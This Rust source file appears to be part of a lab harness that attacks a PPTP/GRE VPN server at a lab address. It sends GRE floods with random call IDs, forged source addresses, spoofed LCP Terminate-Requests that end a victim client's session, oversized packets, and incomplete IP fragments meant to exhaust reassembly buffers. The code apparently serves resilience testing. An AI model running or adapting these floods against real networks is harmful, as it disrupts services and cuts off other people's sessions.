//! Attacks with GRE packets by who has no session.

use std::net::{Ipv4Addr, SocketAddrV4};

use anyhow::Result;
use rustix::net::{
    AddressFamily, SendFlags, SocketFlags, SocketType, ipproto, sendto, socket_with,
};

use super::attack::{Gun, OWN, Strike, VICTIM};

/// The server, as `lab::segment::SERVER`.
pub(super) const SERVER_ADDRESS: Ipv4Addr = Ipv4Addr::new(10, 99, 0, 1);

/// An LCP Terminate-Request (RFC 1661 §5.5): what an attacker would like to be believed.
const TERMINATE: [u8; 8] = [0xff, 0x03, 0xc0, 0x21, 5, 1, 0, 4];

/// A GRE packet with a sequence number (RFC 2637 §4.1).
pub(super) fn packet(call: u16, sequence: u32, frame: &[u8]) -> Vec<u8> {
    let mut packet = vec![0x30, 0x01, 0x88, 0x0b];
    packet.extend((frame.len() as u16).to_be_bytes());
    packet.extend(call.to_be_bytes());
    packet.extend(sequence.to_be_bytes());
    packet.extend(frame);
    packet
}

/// Sends what `make` makes of random numbers.
fn flood(
    strike: &mut Strike,
    mut make: impl FnMut(&mut Strike) -> (Vec<u8>, Ipv4Addr),
) -> Result<()> {
    let mut gun = Gun::new()?;
    while let Some(due) = strike.due() {
        for _ in 0..due {
            let (packet, from) = make(strike);
            gun.fire(&packet, from);
        }
        gun.flush();
    }
    Ok(())
}

/// A frame that looks like an encrypted one.
fn looks_encrypted(random: u64) -> Vec<u8> {
    let mut frame = vec![0x00, 0xfd, 0x90 | (random >> 60) as u8, random as u8];
    frame.extend(random.to_be_bytes().repeat(12));
    frame
}

pub(super) fn random_calls(strike: &mut Strike) -> Result<()> {
    flood(strike, |strike| {
        let random = strike.random();
        (packet(random as u16, (random >> 16) as u32, &looks_encrypted(random)), OWN)
    })
}

pub(super) fn forged_sources(strike: &mut Strike) -> Result<()> {
    flood(strike, |strike| {
        let (random, source) = (strike.random(), strike.some_source());
        (packet(random as u16, (random >> 16) as u32, &looks_encrypted(random)), source)
    })
}

/// Every call id in turn, from the address of a client, with what would end its session or carry its sequence numbers away.
pub(super) fn victims_address(strike: &mut Strike) -> Result<()> {
    let mut call = 0_u16;
    flood(strike, |strike| {
        call = call.wrapping_add(1);
        let random = strike.random();
        let sequence = (random >> 16) as u32;
        let frame = if random & 1 == 0 { TERMINATE.to_vec() } else { looks_encrypted(random) };
        (packet(call, sequence, &frame), VICTIM)
    })
}

/// Longer than any tunnel's packet: the kernel cuts it up and puts it together.
pub(super) fn oversize(strike: &mut Strike) -> Result<()> {
    let socket = socket_with(
        AddressFamily::INET,
        SocketType::RAW,
        SocketFlags::CLOEXEC,
        Some(rustix::net::Protocol::from_raw(
            std::num::NonZero::new(47).unwrap_or(std::num::NonZero::<u32>::MIN),
        )),
    )?;
    let to = SocketAddrV4::new(SERVER_ADDRESS, 0);
    while let Some(due) = strike.due() {
        for _ in 0..due {
            let random = strike.random();
            let packet = packet(random as u16, 1, &vec![0xfd; 60_000]);
            // A full queue loses packets, as any network does.
            let _ = sendto(&socket, &packet, SendFlags::empty(), &to);
        }
    }
    Ok(())
}

/// First fragments whose others never come, from many addresses (RFC 791 §3.1): each would be kept for half a minute.
pub(super) fn fragments(strike: &mut Strike) -> Result<()> {
    let socket = socket_with(
        AddressFamily::INET,
        SocketType::RAW,
        SocketFlags::CLOEXEC,
        Some(ipproto::RAW),
    )?;
    let to = SocketAddrV4::new(SERVER_ADDRESS, 0);
    while let Some(due) = strike.due() {
        for _ in 0..due {
            let (random, source) = (strike.random(), strike.some_source());
            let payload = packet(random as u16, 1, &looks_encrypted(random));
            let id = (random >> 32) as u16;
            let mut whole = vec![0x45, 0];
            whole.extend((20 + 96_u16).to_be_bytes());
            whole.extend(id.to_be_bytes());
            // More fragments follow.
            whole.extend([0x20, 0, 64, 47, 0, 0]);
            whole.extend(source.octets());
            whole.extend(SERVER_ADDRESS.octets());
            whole.extend(&payload[..96]);
            let _ = sendto(&socket, &whole, SendFlags::empty(), &to);
        }
    }
    Ok(())
}
